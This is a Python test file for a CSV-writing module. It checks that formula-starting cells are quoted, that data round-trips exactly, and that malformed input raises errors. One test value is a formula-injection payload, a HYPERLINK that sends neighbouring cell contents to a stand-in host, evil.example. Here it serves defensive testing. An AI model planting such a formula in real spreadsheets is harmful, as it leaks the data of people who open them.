"""wecare.safe_csv: no cell a spreadsheet would run as a formula, and what it writes reads back
exactly. No database: these are properties of the text alone."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wecare import safe_csv

# Text that leans on the characters that matter here, plus anything else Unicode has (lone
# surrogates excluded: they cannot be written to a UTF-8 file at all).
TRICKY = st.sampled_from([*safe_csv.FORMULA_START, "'", '"', ",", "\n", "a", "1", " "])
CELL = st.lists(st.one_of(TRICKY, st.characters(exclude_categories=["Cs"])), max_size=12).map("".join)


def written(rows: list[list[str]]) -> str:
    out = io.StringIO()
    writer = safe_csv.Writer(out)
    for row in rows:
        writer.writerow(row)
    return out.getvalue()


@given(st.lists(st.lists(CELL, min_size=3, max_size=3), min_size=1, max_size=5))
def test_no_written_cell_starts_with_a_formula_character(rows):
    for cells in csv.reader(io.StringIO(written(rows))):  # as a spreadsheet splits the file
        assert not any(cell[:1] in safe_csv.FORMULA_START for cell in cells if cell), cells


@given(st.lists(st.lists(CELL, min_size=3, max_size=3), min_size=1, max_size=5))
def test_what_is_written_reads_back_exactly(rows):
    text = written([["a", "b", "c"], *rows])
    table = safe_csv.read(text)
    assert [[cells["a"], cells["b"], cells["c"]] for _, cells in table.rows] == rows


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?c="&C2&D2,"Click for invoice")',
            '\'=HYPERLINK("http://evil.example/?c="&C2&D2,"Click for invoice")',
        ),
        ("+919876543210", "'+919876543210"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("'=1", "''=1"),  # already starts with the quote: one more, so reading gives it back
        ("Asha Rao", "Asha Rao"),
        ("O'Brien", "O'Brien"),
        ("'tis", "'tis"),
        (None, ""),
        (3, "3"),
    ],
)
def test_each_formula_start_is_quoted_and_plain_text_is_left_alone(value, cell):
    assert safe_csv.text_cell(value) == cell
    assert safe_csv.read_cell(cell) == ("" if value is None else str(value))


def test_an_unclosed_quote_is_a_bad_csv_naming_the_line_where_its_row_starts():
    text = 'phone,name\n+14155550123,Ann\n+14155550124,"Bob\n' + "x" * 140_000 + "\n+14155550125,Cy\n"
    with pytest.raises(safe_csv.BadCsv) as caught:
        safe_csv.read(text)
    assert caught.value.line == 3
    assert "longer than 131,072 characters" in str(caught.value) and "never closed" in str(caught.value)


def test_a_header_line_over_the_limit_is_a_bad_csv_too():
    with pytest.raises(safe_csv.BadCsv) as caught:
        safe_csv.read("x" * 140_000)
    assert caught.value.line == 1


def test_rows_keep_their_line_missing_cells_are_empty_and_extra_cells_are_ignored():
    table = safe_csv.read("\ufeff phone , name\n+1,Ann,extra\n\n+2\n")
    assert table.header == ["phone", "name"]
    assert table.rows == [(2, {"phone": "+1", "name": "Ann"}), (4, {"phone": "+2", "name": ""})]
